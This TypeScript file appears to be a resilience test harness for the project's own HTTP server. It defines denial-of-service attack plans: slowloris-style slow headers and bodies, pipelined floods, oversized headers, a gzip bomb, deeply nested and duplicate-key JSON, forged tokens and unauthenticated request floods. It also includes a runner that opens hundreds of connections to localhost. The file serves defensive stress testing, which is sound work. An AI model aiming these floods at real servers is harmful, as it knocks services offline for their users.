import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';

/** 64 MiB of zeros: 64 KiB once compressed. */
const batchOfZeros = Buffer.alloc(67_108_864);

const MOST_BYTES = 1_000_000;

const deep = '['.repeat(MOST_BYTES / 2) + ']'.repeat(MOST_BYTES / 2);

const duplicates = `{${Array.from({ length: MOST_BYTES / 10 }, () => '"ab":1').join()}}`;

const hugeNumbers = `{"status": [${Array.from({ length: 1_000 }, () => '9'.repeat(900)).join()}]}`;

/** What is attacked: the port, a route that takes bodies, and a token that may use it. */
export interface Target {
  readonly port: number;
  readonly path: string;
  /** One that is read. */
  readonly readPath: string;
  readonly token: string;
}

/** What an attack has seen so far: answers by status, connections opened, and those that the server closed. */
export type Seen = { readonly statuses: Record<string, number>; opened: number; closed: number };

/** One connection of an attack: what is sent first, and what whenever `again` finds it time for more. */
interface Plan {
  readonly connections: number;
  readonly first: string | Buffer;
  /** Sent every so many ms. */
  readonly drip?: { readonly everyMs: number; readonly text: string };
  /** Sent after every answer: as fast as the server answers. */
  readonly next?: string | Buffer;
  /** Whether a connection that the server closed is opened again. */
  readonly stubborn?: boolean;
  readonly readsNothing?: boolean;
}

const put = ({ path, token }: Target, fields: string, body: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      `PUT ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: ${token}\r\n${fields}Content-Length: ${body.length}\r\n\r\n`,
    ),
    Buffer.from(body),
  ]);
const json = 'Content-Type: application/json\r\n';
const get = ({ token }: Target, path: string, fields = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: ${token}\r\n${fields}\r\n`;

const flood = (request: string | Buffer, connections: number): Plan => ({
  connections,
  first: request,
  next: request,
  stubborn: true,
});

export const attacks: Readonly<Record<string, (target: Target, connections: number) => Plan>> = {
  'idle connections': (_, connections) => ({ connections, first: '' }),
  'slow heads': () => ({
    connections: 1_000,
    first: 'GET / HTTP/1.1\r\nHost: x\r\n',
    drip: { everyMs: 250, text: 'X-a: b\r\n' },
    stubborn: true,
  }),
  'slow bodies': (target) => ({
    connections: 500,
    first: put(target, json, ' '.repeat(10_000)).subarray(0, -9_999),
    drip: { everyMs: 250, text: ' ' },
    stubborn: true,
  }),
  'answers that nobody reads': (target) => ({
    connections: 50,
    first: get(target, '/openapi.json'),
    drip: { text: get(target, '/openapi.json'), everyMs: 100 }, // one after the other: a pipelined one ends the connection
    readsNothing: true,
  }),
  pipelining: (target) => flood(get(target, target.readPath).repeat(100), 10),
  'heads of many fields': (target) => flood(get(target, target.readPath, 'a: b\r\n'.repeat(2_000)), 10),
  'heads of many bytes': (target) => flood(get(target, target.readPath, `X: ${'x'.repeat(20_000)}\r\n`), 10),
  'compressed bodies': (target) => flood(put(target, `${json}Content-Encoding: gzip\r\n`, gzipSync(batchOfZeros)), 10),
  'bodies that nest': (target) => flood(put(target, json, deep), 4),
  'bodies of members named twice': (target) => flood(put(target, json, duplicates), 4),
  'bodies of huge numbers': (target) => flood(put(target, json, hugeNumbers), 4),
  'forged tokens': ({ token, ...target }) =>
    flood(get({ ...target, token: `${token.slice(0, -8)}AAAAAAAA` }, target.readPath), 20),
  'a page without a token': () => flood('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n', 200),
  'metrics without a token': () => flood('GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n', 200),
  'readiness without a token': () => flood('GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n', 200),
  'no HTTP': () => flood(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x0d, 0x0a, 0x0d, 0x0a]), 20),
};

/** Attacks until the process ends, and writes what it sees into `seen`. */
export const attack = (plan: Plan, port: number, seen: Seen): void => {
  const open = (): void => {
    const socket: Socket = connect(port, '127.0.0.1');
    const drip = plan.drip;
    let timer: NodeJS.Timeout | undefined;
    const goOn = ({ text, everyMs }: NonNullable<Plan['drip']>, afterMs: number): void => {
      timer = setTimeout(() => {
        socket.write(text);
        goOn({ text, everyMs }, everyMs);
      }, afterMs);
    };
    socket.on('connect', () => {
      seen.opened += 1;
      socket.write(plan.first);
      if (drip !== undefined) goOn(drip, drip.everyMs * Math.random()); // as from many machines, not in step
    });
    if (plan.readsNothing === true) socket.pause();
    else
      socket.on('data', (data) => {
        const statuses = [...data.toString('latin1').matchAll(/HTTP\/1\.1 (\d+)/gu)];
        for (const [, status = ''] of statuses) seen.statuses[status] = (seen.statuses[status] ?? 0) + 1;
        if (plan.next !== undefined && statuses.length > 0) socket.write(plan.next);
      });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      seen.closed += 1;
      if (plan.stubborn === true) setTimeout(open, 20);
    });
  };
  let left = plan.connections;
  const openSome = (): void => {
    for (let count = 0; count < 100 && left > 0; count += 1, left -= 1) open();
    if (left > 0) setTimeout(openSome, 20);
  };
  openSome();
};
